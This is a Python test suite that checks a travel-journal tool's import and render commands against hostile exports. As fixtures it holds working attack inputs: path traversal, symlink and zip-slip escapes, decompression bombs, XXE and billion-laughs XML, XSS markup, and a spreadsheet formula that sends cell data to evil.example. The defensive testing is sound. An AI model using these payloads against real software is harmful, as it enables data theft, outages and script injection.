"""Files from others, measured: every attack an export can carry, through the real command.

An export is a stranger's file. Each case below builds one hostile export next to a secret
(a track and a photo outside the export, a `user.json` above it) and runs `journal import`
on it. The contract, for every case: the import says what it refused in one line naming the
file; the secret is never read nor published; nothing is written outside the trip folder;
and a failure leaves the journal as it was (all or nothing). The render side of hostile
input (Liquid in links, colliding names, costly Markdown, a decompression-bomb image, a
two-million-point track) is at the end.
"""

from __future__ import annotations

import datetime as dt
import json
import re
import shutil
import struct
import time
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import pytest
from typer.testing import CliRunner

from journal.cli import app
from tests.conftest import DATA
from tests.photofactory import ExifSpec, write_jpeg
from tests.sitescan import read_page

SAMPLES = DATA / "imports"
#: Where the secret track and photo are: a latitude no sample comes near.
SECRET = (12.3456, 98.7654)
SECRET_WORD = "SEGRETISSIMO"
runner = CliRunner()


@dataclass(frozen=True)
class World:
    """A journal, an export folder, and the secrets beside them."""

    base: Path
    root: Path
    exports: Path
    secret: Path


@pytest.fixture
def world(tmp_path: Path) -> World:
    root = tmp_path / "journal"
    (root / "trips").mkdir(parents=True)
    secret = tmp_path / "secret"
    secret.mkdir()
    start = dt.datetime(2015, 6, 27, 8, 0, tzinfo=dt.UTC)
    points = "".join(
        f'<trkpt lat="{SECRET[0] + i / 1000}" lon="{SECRET[1]}"><time>'
        f"{(start + dt.timedelta(minutes=i)).strftime('%Y-%m-%dT%H:%M:%SZ')}</time></trkpt>"
        for i in range(20)
    )
    (secret / "secret.gpx").write_text(
        '<?xml version="1.0"?><gpx version="1.1" xmlns="http://www.topografix.com/GPX/1/1">'
        f"<trk><name>{SECRET_WORD}</name><trkseg>{points}</trkseg></trk></gpx>",
        encoding="utf-8",
    )
    spec = ExifSpec(lat=SECRET[0], lon=SECRET[1], make=SECRET_WORD, gps_time=start)
    write_jpeg(secret / "secret.jpg", spec)
    (secret / "secret.txt").write_text(SECRET_WORD, encoding="utf-8")
    exports = tmp_path / "exports"
    exports.mkdir()
    return World(tmp_path, root, exports, secret)


def run_import(world: World, *args: str) -> tuple[int, str]:
    result = runner.invoke(app, ["--root", str(world.root), "import", *args])
    if result.exception and not isinstance(result.exception, SystemExit):
        raise result.exception
    return result.exit_code, result.output


def snapshot(folder: Path, *, skip: Path | None = None) -> dict[str, bytes]:
    """Every file below `folder` (but those below `skip`), by path."""
    return {
        p.relative_to(folder).as_posix(): p.read_bytes()
        for p in sorted(folder.rglob("*"))
        if p.is_file() and not p.is_symlink() and (skip is None or not p.is_relative_to(skip))
    }


def assert_confined(world: World, before: dict[str, bytes]) -> None:
    """Nothing changed outside trips/, no secret inside it."""
    after = snapshot(world.base, skip=world.root / "trips")
    assert after == before, sorted(set(after) ^ set(before))
    for path in (world.root / "trips").rglob("*"):
        assert not path.is_symlink(), path
        if path.is_file():
            data = path.read_bytes()
            assert SECRET_WORD.encode() not in data, path
            assert f"{SECRET[0]:.4f}".encode() not in data, path
            assert data != (world.secret / "secret.jpg").read_bytes(), path


# --- builders: each makes one hostile export and returns (source, path, trip) -----------


def _strava(world: World, edit: Callable[[Path, str], str]) -> Path:
    export = Path(shutil.copytree(SAMPLES / "strava", world.exports / "strava"))
    table = export / "activities.csv"
    table.write_text(edit(export, table.read_text(encoding="utf-8")), encoding="utf-8")
    return export


def strava_absolute_file(world: World) -> Path:
    target = str(world.secret / "secret.gpx")
    return _strava(world, lambda _, t: t.replace("activities/101.gpx", target))


def strava_dotdot_file(world: World) -> Path:
    return _strava(world, lambda _, t: t.replace("activities/101.gpx", "../../secret/secret.gpx"))


def strava_symlinked_file(world: World) -> Path:
    def edit(export: Path, table: str) -> str:
        (export / "activities" / "101.gpx").unlink()
        (export / "activities" / "101.gpx").symlink_to(world.secret / "secret.gpx")
        return table

    return _strava(world, edit)


def strava_hostile_media(world: World) -> Path:
    def edit(export: Path, table: str) -> str:
        (export / "media" / "link.jpg").symlink_to(world.secret / "secret.jpg")
        media = f"{world.secret / 'secret.jpg'}|../../secret/secret.jpg|media/link.jpg"
        return table.replace("media/5c1d9e3a-dover.jpg", media)

    return _strava(world, edit)


def strava_hostile_id(world: World) -> Path:
    return _strava(world, lambda _, t: t.replace("\n102,", "\n../../../../owned,", 1))


def dayone_symlinked_photo(world: World) -> Path:
    export = Path(shutil.copytree(SAMPLES / "dayone", world.exports / "dayone"))
    photo = next((export / "photos").iterdir())
    photo.unlink()
    photo.symlink_to(world.secret / "secret.jpg")
    return export


def polarsteps_symlinked_folder(world: World) -> Path:
    export = Path(shutil.copytree(SAMPLES / "polarsteps", world.exports / "polarsteps"))
    step = export / "trip" / "alpi-in-moto_7001" / "mantua_103"
    shutil.rmtree(step / "photos")
    (step / "photos").symlink_to(world.secret, target_is_directory=True)
    return export


def polarsteps_home_above(world: World) -> Path:
    """One trip's folder, below a folder holding a `user/user.json` that is not the export's."""
    shutil.copytree(SAMPLES / "polarsteps" / "trip", world.exports / "trip")
    (world.exports / "user").mkdir()
    (world.exports / "user" / "user.json").write_text("{not json", encoding="utf-8")
    return world.exports / "trip" / "alpi-in-moto_7001"


def _zip(path: Path, folder: Path, extra: dict[str, bytes] | None = None) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for file in sorted(folder.rglob("*")):
            if file.is_file():
                archive.write(file, f"user_data/{file.relative_to(folder).as_posix()}")
        for name, data in (extra or {}).items():
            archive.writestr(name, data)
    return path


def polarsteps_zip_slip(world: World) -> Path:
    extra = {"../../evil.txt": b"owned", "/tmp/evil-absolute.txt": b"owned"}
    return _zip(world.exports / "user_data.zip", SAMPLES / "polarsteps", extra)


#: 64 MB of zeros: deflate packs them about 1,000 to 1.
BOMB = b"\0" * (64 << 20)


def polarsteps_zip_bomb(world: World) -> Path:
    photos = "user_data/trip/alpi-in-moto_7001/mantua_103/photos"
    return _zip(world.exports / "user_data.zip", SAMPLES / "polarsteps", {f"{photos}/z.jpg": BOMB})


def strava_zip_unneeded_bomb(world: World) -> Path:
    return _zip(world.exports / "export.zip", SAMPLES / "strava", {"user_data/huge.mp4": BOMB})


def strava_gz_bomb(world: World) -> Path:
    def edit(export: Path, table: str) -> str:
        (export / "activities" / "106.gpx.gz").write_bytes(zlib.compress(BOMB, 9, wbits=31))
        return table.replace("activities/103.gpx.gz", "activities/106.gpx.gz")

    return _strava(world, edit)


def _fit_liar() -> bytes:
    """28 bytes of FIT whose `record.timestamp` says it is text: fitdecode raises TypeError."""
    body = bytes([0x40, 0, 0]) + struct.pack("<H", 20) + bytes([1, 253, 4, 0x07, 0]) + b"abcd"
    data = struct.pack("<BBHI4s", 12, 0x10, 2132, len(body), b".FIT") + body
    crc = 0
    table = [0x0000, 0xCC01, 0xD801, 0x1400, 0xF001, 0x3C00, 0x2800, 0xE401,
             0xA001, 0x6C00, 0x7800, 0xB401, 0x5000, 0x9C01, 0x8801, 0x4400]  # fmt: skip
    for byte in data:
        for nibble in (byte & 0xF, byte >> 4):
            crc = (crc >> 4) ^ table[crc & 0xF] ^ table[nibble]
    return data + struct.pack("<H", crc)


def gpx_folder_with(world: World, name: str, data: bytes) -> Path:
    export = Path(shutil.copytree(SAMPLES / "gpx", world.exports / "gpx"))
    (export / name).write_bytes(data)
    return export


def fit_liar(world: World) -> Path:
    return gpx_folder_with(world, "liar.fit", _fit_liar())


def json_too_deep(world: World) -> Path:
    export = world.exports / "google"
    export.mkdir()
    shutil.copy(SAMPLES / "google-android" / "Timeline.json", export)
    (export / "deep.json").write_text("[" * 100_000 + "]" * 100_000, encoding="utf-8")
    return export


def _gpx_with(prolog: str, name: str) -> bytes:
    return (
        f'<?xml version="1.0"?>{prolog}<gpx version="1.1" '
        f'xmlns="http://www.topografix.com/GPX/1/1"><wpt lat="45.1" lon="10.7"><name>{name}'
        "</name></wpt></gpx>"
    ).encode()


def xml_billion_laughs(world: World) -> Path:
    entities = '<!ENTITY a0 "ha">' + "".join(
        f'<!ENTITY a{i} "{f"&a{i - 1};" * 10}">' for i in range(1, 10)
    )
    return gpx_folder_with(world, "laughs.gpx", _gpx_with(f"<!DOCTYPE gpx [{entities}]>", "&a9;"))


def xml_external_entity(world: World) -> Path:
    entity = f'<!DOCTYPE gpx [<!ENTITY xxe SYSTEM "file://{world.secret / "secret.txt"}">]>'
    return gpx_folder_with(world, "xxe.gpx", _gpx_with(entity, "&xxe;"))


def xml_too_deep(world: World) -> Path:
    """Extensions nested 100,000 deep: gpxpy reads them, and would recurse writing them."""
    deep = "<x>" * 100_000 + "</x>" * 100_000
    return gpx_folder_with(world, "deep.gpx", _gpx_with("", f"n</name><extensions>{deep}"
                                                         "</extensions><name>n"))  # fmt: skip


def csv_cells(world: World) -> Path:
    name = '=HYPERLINK("http://evil.example/?"&A1,"ok"); {{ site.title }}<script>x</script>'
    cell = '"' + name.replace('"', '""') + '"'  # as a spreadsheet quotes it
    return _strava(world, lambda _, t: t.replace("Londra–Dover", cell))


def polarsteps_backslash_photo(world: World) -> Path:
    export = Path(shutil.copytree(SAMPLES / "polarsteps", world.exports / "polarsteps"))
    photos = export / "trip" / "alpi-in-moto_7001" / "mantua_103" / "photos"
    shutil.copy(photos / "0a1b2c_lago.jpg", photos / "back\\slash.jpg")
    return export


@dataclass(frozen=True)
class Case:
    source: str
    build: Callable[[World], Path]
    code: int  # the exit code
    line: str  # a regex one output line must match whole (`{export}`: the export's path)
    imports: bool = True  # whether the rest of the export comes in


CASES: dict[str, Case] = {
    "strava-absolute-filename": Case(
        "strava", strava_absolute_file, 0,
        r"warning: {export}/activities\.csv:2: activity 101: its file '/.+/secret\.gpx' is "
        r"not in the export; skipped",
    ),
    "strava-dotdot-filename": Case(
        "strava", strava_dotdot_file, 0,
        r"warning: {export}/activities\.csv:2: activity 101: its file "
        r"'\.\./\.\./secret/secret\.gpx' is not in the export; skipped",
    ),
    "strava-symlinked-filename": Case(
        "strava", strava_symlinked_file, 0,
        r"warning: {export}/activities\.csv:2: activity 101: its file 'activities/101\.gpx' "
        r"is not in the export; skipped",
    ),
    "strava-hostile-media": Case(
        "strava", strava_hostile_media, 0,
        r"warning: {export}: media 'media/link\.jpg' of activity 101 is not a photo in the "
        r"export; not imported",
    ),
    "strava-hostile-activity-id": Case(
        "strava", strava_hostile_id, 0, r"  tracks: 3 new; \d+ track points",
    ),
    "dayone-symlinked-photo": Case(
        "dayone", dayone_symlinked_photo, 0,
        r"warning: {export}/Viaggi\.json: photo [0-9a-f]{{32}}\.jpeg is not in photos/; "
        r"not imported",
    ),
    "polarsteps-symlinked-folder": Case(
        "polarsteps", polarsteps_symlinked_folder, 0,
        r"warning: {export}: 1 link leading out of the export not followed",
    ),
    "polarsteps-home-above-the-export": Case(
        "polarsteps", polarsteps_home_above, 0, r"  privacy zones: none added",
    ),
    "zip-slip": Case(
        "polarsteps", polarsteps_zip_slip, 0,
        r"warning: {export}: 2 members named outside the archive \(absolute or \.\.\) not read",
    ),
    "zip-bomb": Case(
        "polarsteps", polarsteps_zip_bomb, 1,
        r"error: {export}/user_data/trip/alpi-in-moto_7001/mantua_103/photos/z\.jpg: unpacks "
        r"to over 100 times its packed size \(\d+ B\): a decompression bomb; not read",
        imports=False,
    ),
    "zip-bomb-not-needed": Case(
        "strava", strava_zip_unneeded_bomb, 0, r"  tracks: 3 new; \d+ track points",
    ),
    "gz-bomb": Case(
        "strava", strava_gz_bomb, 1,
        r"error: {export}/activities/106\.gpx\.gz: unpacks to over 100 times its packed size "
        r"\(\d+ B\): a decompression bomb; not read",
        imports=False,
    ),
    "fit-whose-types-lie": Case(
        "gpx", fit_liar, 0,
        r"warning: {export}/liar\.fit: cannot be read \('>=' not supported between instances "
        r"of 'str' and 'int'\); not read",
    ),
    "json-nested-100000-deep": Case(
        "google-timeline", json_too_deep, 1,
        r"error: {export}/deep\.json: nested too deeply to read; not read",
    ),
    "xml-billion-laughs": Case(
        "gpx", xml_billion_laughs, 0,
        r"warning: {export}/laughs\.gpx: not a GPX file: .*(amplification|entity).*",
    ),
    "xml-external-entity": Case(
        "gpx", xml_external_entity, 0,
        r"warning: {export}/xxe\.gpx: not a GPX file: .*",
    ),
    "xml-nested-100000-deep": Case(
        "gpx", xml_too_deep, 0, r"  tracks: 4 new; \d+ track points, 1 waypoint",
    ),
    "csv-cells": Case("strava", csv_cells, 0, r"  entries: 2 new"),
    "polarsteps-backslash-in-a-photo-name": Case(
        "polarsteps", polarsteps_backslash_photo, 0, r"  photos: 4 new",
    ),
}  # fmt: skip


@pytest.mark.parametrize("name", sorted(CASES))
def test_a_hostile_export_is_refused_in_one_line_and_reaches_nothing(
    name: str, world: World
) -> None:
    case = CASES[name]
    export = case.build(world)
    before = snapshot(world.base, skip=world.root / "trips")
    started = time.monotonic()
    code, output = run_import(world, case.source, str(export), "trip")
    assert time.monotonic() - started < 30, f"{name}: the import took minutes"
    assert code == case.code, output
    pattern = re.compile(case.line.format(export=re.escape(str(export))))
    assert any(pattern.fullmatch(line) for line in output.splitlines()), output
    assert "Traceback" not in output
    assert_confined(world, before)
    trip = world.root / "trips" / "trip"
    assert trip.is_dir() == case.imports, output
    if case.imports:
        _check_ledger(trip)


def _check_ledger(trip: Path) -> None:
    """imported.txt lists exactly the files the import brought, each really there."""
    listed = (trip / "imported.txt").read_text(encoding="utf-8").splitlines()
    files = {line.removeprefix("file ") for line in listed if line.startswith("file ")}
    present = {p.relative_to(trip).as_posix() for p in trip.rglob("*") if p.is_file()}
    assert files <= present, files - present
    brought = {p for p in present if p.startswith(("photos/", "tracks/"))}
    assert brought == files, brought ^ files


def test_names_from_an_export_become_file_names_inside_the_trip(world: World) -> None:
    """An Activity ID of `../../../../owned` and a photo named `back\\slash.jpg` are data."""
    code, output = run_import(world, "strava", str(strava_hostile_id(world)), "trip")
    assert code == 0, output
    assert (world.root / "trips" / "trip" / "tracks" / "strava-owned.gpx").is_file()
    shutil.rmtree(world.exports / "strava")
    code, output = run_import(world, "polarsteps", str(polarsteps_backslash_photo(world)), "t2")
    assert code == 0, output
    photos = world.root / "trips" / "t2" / "photos"
    assert (photos / "2015-06-28-mantua" / "back-slash.jpg").is_file(), sorted(photos.rglob("*"))


def test_a_failed_import_leaves_an_existing_trip_as_it_was(world: World) -> None:
    """All or nothing: a bomb met after the first photos were read writes none of them."""
    code, output = run_import(world, "dayone", str(SAMPLES / "dayone"), "trip")
    assert code == 0, output
    trip = world.root / "trips" / "trip"
    before = snapshot(trip)
    code, output = run_import(world, "polarsteps", str(polarsteps_zip_bomb(world)), "trip")
    assert code == 1, output
    assert snapshot(trip) == before
    assert not [p for p in (world.root / "trips").iterdir() if p.name.startswith(".")]


def test_csv_cells_stay_words_in_the_entry_and_on_the_page(world: World) -> None:
    code, output = run_import(world, "strava", str(csv_cells(world)), "trip")
    assert code == 0, output
    entry = next((world.root / "trips" / "trip" / "entries").glob("*.md"))
    assert '=HYPERLINK("http://evil.example/?"&A1,"ok")' in entry.read_text(encoding="utf-8")
    result = runner.invoke(app, ["--root", str(world.root), "render", "trip"])
    page = (world.root / "site" / "trip" / "index.html").read_text(encoding="utf-8")
    assert "<script>x</script>" not in page, result.output
    assert "&lt;script&gt;x&lt;/script&gt;" in page


#: Markup in an export's text: each piece would run, or wait for a click, if published as is.
MARKUP = (
    "Ciao <script>alert(ATTACK)</script> <img src=x onerror=alert(ATTACK)> "
    "[a](javascript:alert(ATTACK)) [b](jav&#x61;script:alert(ATTACK)) "
    "[c](java\tscript:alert(ATTACK)) ![d](data:text/html,ATTACK) [e][r]\n\n"
    "[r]: vbscript:ATTACK\n"
)


def _with_markup(world: World, source: str) -> Path:
    """The sample export of `source` with MARKUP as the text of its first entry."""
    export = Path(shutil.copytree(SAMPLES / source, world.exports / source))
    if source == "strava":
        table = export / "activities.csv"
        cell = '"' + MARKUP.replace('"', '""') + '"'
        text = table.read_text(encoding="utf-8")
        table.write_text(text.replace('"Partenza all\'alba verso Dover, con il traffico e la '
                                      'pioggia."', cell), encoding="utf-8")  # fmt: skip
        return export
    if source == "polarsteps":
        path = export / "trip" / "alpi-in-moto_7001" / "trip.json"
        data = json.loads(path.read_text(encoding="utf-8"))
        data["all_steps"][0]["description"] = MARKUP
    else:
        path = export / "Viaggi.json"
        data = json.loads(path.read_text(encoding="utf-8"))
        data["entries"][1]["text"] = MARKUP
    path.write_text(json.dumps(data), encoding="utf-8")
    return export


def _active(url: str) -> bool:
    """Whether a browser would run `url` (or render it as a page of its own)."""
    cleaned = re.sub(r"[\t\n\r]", "", url).strip("".join(map(chr, range(33))))
    return re.match(r"(javascript|vbscript|data):", cleaned, re.IGNORECASE) is not None


@pytest.mark.parametrize("source", ["strava", "polarsteps", "dayone"])
def test_markup_in_an_exports_text_is_shown_never_run(world: World, source: str) -> None:
    """The author's own entry may hold HTML; a stranger's export may not: its tags, handlers
    and script links reach the page as the words they are."""
    code, output = run_import(world, source, str(_with_markup(world, source)), "trip")
    assert code == 0, output
    assert re.search(r"^warning: .*\.md: \S+: markup in the export's text", output, re.M), output
    result = runner.invoke(app, ["--root", str(world.root), "render", "trip"])
    assert result.exit_code == 0, result.output
    pages = [read_page(path) for path in (world.root / "site" / "trip").rglob("index.html")]
    shown = [page for page in pages if "alert(ATTACK)" in "".join(page.text)]
    assert shown, "the text of the export is not on the page"
    for page in shown:
        assert "<script>alert(ATTACK)</script>" in "".join(page.text)
        assert not [code for code in page.scripts if "ATTACK" in code]
        assert not [(tag, name) for tag, name, _ in page.attrs if name.startswith("on")]
        links = [v for _, name, v in page.attrs if name in ("href", "src", "srcset", "action")]
        assert not [url for url in links if _active(url)], links


# --- the render side: what a trip's own files, however hostile, may cost or collide -------

TRIP_TOML = 'default_lang = "it"\ntimezone = "Europe/Rome"\n[title]\nit = "Ostile"\n'
START = dt.datetime(2015, 6, 27, 8, 0, tzinfo=dt.UTC)


def make_trip(root: Path, entry: str = "Si parte.\n") -> Path:
    trip = root / "trips" / "ostile"
    (trip / "entries").mkdir(parents=True)
    (trip / "trip.toml").write_text(TRIP_TOML, encoding="utf-8")
    (trip / "entries" / "2015-06-27-via.it.md").write_text(
        f"---\ntitle: Via\ntime: '10:00'\n---\n\n{entry}", encoding="utf-8"
    )
    write_jpeg(trip / "photos" / "good.jpg", ExifSpec(lat=45.15, lon=10.79, gps_time=START))
    return trip


def render(root: Path) -> tuple[int, str]:
    result = runner.invoke(app, ["--root", str(root), "render", "ostile"])
    if result.exception and not isinstance(result.exception, SystemExit):
        raise result.exception
    return result.exit_code, result.output


def warnings_of(output: str) -> list[str]:
    return [line for line in output.splitlines() if line.startswith(("warning:", "error:"))]


def test_published_names_never_collide(tmp_path: Path) -> None:
    """`a-400.jpg` is not the thumbnail of `a.jpg`, nor `a-poster.jpg` a clip's poster; two
    names one case-blind disk would take for one are one warning."""
    trip = make_trip(tmp_path)
    for name in ("a.jpg", "a-400.jpg", "a-poster.jpg", "IMG_1.jpg", "img_1.JPG"):
        write_jpeg(trip / "photos" / name, ExifSpec(lat=45.15, lon=10.79, gps_time=START))
    code, output = render(tmp_path)
    assert code == 0, output
    assert warnings_of(output) == [
        f"warning: {trip}/photos/img_1.JPG: same published name as photos/IMG_1.jpg "
        "(media/IMG_1.jpg); not published"
    ], output
    media = sorted(p.name for p in (tmp_path / "site" / "ostile" / "media").iterdir())
    assert len(media) == 2 * 5, media  # good, a, a-400, a-poster and IMG_1, in two sizes
    assert len({name.casefold() for name in media}) == len(media)
    page = (tmp_path / "site" / "ostile" / "index.html").read_text(encoding="utf-8")
    larges = re.findall(r'<a href="(media/[^"]+)" data-pswp', page)
    assert len(set(larges)) == 5 and set(larges) <= {f"media/{m}" for m in media}, larges


def test_an_entry_that_makes_markdown_quadratic_renders_in_seconds(tmp_path: Path) -> None:
    """64 KB of `[x](` took minutes (8 KB: 1.9 s, 32 KB: 31 s); now seconds and one line."""
    trip = make_trip(tmp_path, "[x](" * 16_384 + "\n")
    started = time.monotonic()
    code, output = render(tmp_path)
    assert time.monotonic() - started < 20, output
    assert code == 0, output
    assert warnings_of(output) == [
        f"warning: {trip}/entries/2015-06-27-via.it.md:5: 16384 unclosed brackets or tags shown "
        "as written; paragraphs too long or too full of links cut into 256: formatting them as "
        "Markdown would take minutes"
    ], output
    page = (tmp_path / "site" / "ostile" / "index.html").read_text(encoding="utf-8")
    assert page.count("[x](") == 16_384  # every one shown as written


def test_a_route_of_many_points_is_published_simplified(tmp_path: Path) -> None:
    """A track of 120,000 points (of 2 million, route.gpx was 255 MB) is exported as drawn."""
    trip = make_trip(tmp_path)
    (trip / "tracks").mkdir()
    points = "".join(
        f'<trkpt lat="{45.1 + i * 1e-6:.7f}" lon="{10.7 + (i % 7) * 1e-6:.7f}"><time>'
        f"{(START + dt.timedelta(seconds=i * 0.25)).strftime('%Y-%m-%dT%H:%M:%S.%fZ')}"
        "</time></trkpt>"
        for i in range(120_000)
    )
    (trip / "tracks" / "dense.gpx").write_text(
        '<?xml version="1.0"?><gpx version="1.1" xmlns="http://www.topografix.com/GPX/1/1">'
        f"<trk><trkseg>{points}</trkseg></trk></gpx>",
        encoding="utf-8",
    )
    code, output = render(tmp_path)
    assert code == 0, output
    assert warnings_of(output) == [
        "warning: the route has 120,000 points: route.gpx and route.geojson are simplified "
        "as the map draws it"
    ], output
    exported = (tmp_path / "site" / "ostile" / "route.gpx").read_text(encoding="utf-8")
    assert 2 <= exported.count("<trkpt") < 1_000, exported.count("<trkpt")


def _huge_png(path: Path) -> None:
    """13,000 x 13,000 pixels of one bit in about 20 KB: 169 megapixels once decoded."""
    width = height = 13_000
    row = b"\0" + b"\0" * (width // 8 + 1)
    pack = zlib.compressobj(9)
    data = b"".join(pack.compress(row) for _ in range(height)) + pack.flush()

    def chunk(kind: bytes, body: bytes) -> bytes:
        crc = zlib.crc32(kind + body) & 0xFFFFFFFF
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", crc)

    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", data) + chunk(b"IEND", b"")
    )


def _high_water_mb(pid: int) -> float:
    """The most memory the process has held since it started its program (its own, not
    the memory of the process it was forked from, which ru_maxrss counts)."""
    try:
        status = Path(f"/proc/{pid}/status").read_text(encoding="utf-8")
    except OSError:
        return 0.0
    found = re.search(r"^VmHWM:\s+(\d+) kB", status, re.MULTILINE)
    return int(found[1]) / 1024 if found else 0.0


def test_an_image_too_large_to_decode_is_refused_before_decoding(tmp_path: Path) -> None:
    """A 169-megapixel PNG of 20 KB took 1.56 GB to publish; now a warning, and no memory."""
    import subprocess
    import sys

    trip = make_trip(tmp_path)
    _huge_png(trip / "photos" / "huge.png")
    assert (trip / "photos" / "huge.png").stat().st_size < 40_000
    command = [sys.executable, "-m", "journal", "--root", str(tmp_path), "render", "ostile"]
    with (tmp_path / "err.txt").open("w+") as err:
        child = subprocess.Popen([*command, "-j", "1"], stdout=subprocess.DEVNULL, stderr=err)
        peak_mb = 0.0
        while child.poll() is None:  # VmHWM only grows: the last reading is the peak
            peak_mb = max(peak_mb, _high_water_mb(child.pid))
            time.sleep(0.02)
        err.seek(0)
        stderr = err.read()
    status = child.returncode
    assert status == 0, stderr
    assert (
        f"warning: {trip}/photos/huge.png: 13000 x 13000 pixels (169 megapixels) would take "
        "644 MB to decode, more than 512 MB; not published"
    ) in stderr.splitlines(), stderr
    assert peak_mb < 500, peak_mb
    assert not list((tmp_path / "site" / "ostile" / "media").glob("huge*"))


def test_a_polyglot_photo_and_its_exif_text_publish_nothing_but_pixels(tmp_path: Path) -> None:
    """A JPEG that is also HTML and a ZIP, with Liquid and markup in its EXIF text: the copy
    is the picture alone, and the page shows none of it as code."""
    trip = make_trip(tmp_path)
    attack = "{{ site.title }}<script>alert(1)</script>"
    photo = trip / "photos" / "poly.jpg"
    spec = ExifSpec(lat=45.15, lon=10.79, gps_time=START, make=attack, model=attack)
    write_jpeg(photo, spec)
    tail = zlib.compress(b"<html><script>alert(2)</script></html>")
    photo.write_bytes(photo.read_bytes() + b"<html><script>alert(3)</script>PK\x03\x04" + tail)
    code, output = render(tmp_path)
    assert code == 0, output
    site = tmp_path / "site" / "ostile"
    copies = sorted((site / "media").glob("poly*"))
    assert len(copies) == 2
    for path in site.rglob("*"):
        if path.is_file():
            data = path.read_bytes()
            assert b"<script>alert" not in data and b"PK\x03\x04" not in data, path
